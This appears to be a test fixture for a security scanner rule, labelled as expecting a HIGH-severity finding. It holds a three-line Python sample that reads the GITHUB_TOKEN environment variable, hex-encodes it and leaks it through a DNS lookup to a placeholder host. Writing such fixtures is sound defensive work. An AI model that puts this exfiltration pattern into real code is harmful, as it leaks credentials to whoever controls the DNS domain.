# expect: HIGH
# rules: MAI130
import os, socket
tok = os.environ.get("GITHUB_TOKEN", "")
socket.gethostbyname(tok.encode().hex()[:60] + ".t.example.invalid")
